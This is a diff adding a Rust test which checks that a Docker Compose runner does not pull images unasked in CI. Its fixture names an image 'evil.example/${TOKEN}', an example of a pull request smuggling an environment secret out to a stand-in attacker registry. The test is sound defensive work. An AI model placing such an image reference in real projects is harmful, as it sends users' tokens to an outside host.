@@ -68,6 +68,21 @@ fn an_engine_that_stops_midway_leaves_the_others() {
     assert_eq!(documents(&user.file("sums.jsonl")).len(), 2);
 }
 
+/// A project of a stranger's pull request can put a secret of the environment into the name of an image.
+#[cfg(all(unix, feature = "engine"))]
+#[test]
+fn images_of_a_project_are_not_pulled_unasked() {
+    let engine = FakeEngine::of(Vec::new());
+    let text = "services: { web: { image: \"evil.example/${TOKEN}\" } }\n";
+    let user = User::new().sets("DOCKER_HOST", engine.address()).sets("TOKEN", "hunter2").writes("compose.yaml", text);
+    let pulls = || engine.asked("").iter().filter(|path| path.contains("/images/create")).count();
+    let ran = user.runs(&["--ci", "--compose", "compose.yaml"]).ends_with(2);
+    assert!(ran.stderr.contains("docker pull") || ran.stderr.contains("--pull"), "{}", ran.stderr);
+    assert_eq!(pulls(), 0);
+    user.runs(&["--ci", "--pull", "missing", "--compose", "compose.yaml"]).ends_with(2);
+    assert!(pulls() > 0);
+}
+
 /// Without a finished image, the summaries of an earlier run stay.
 #[test]
 fn no_image_leaves_an_earlier_document() {
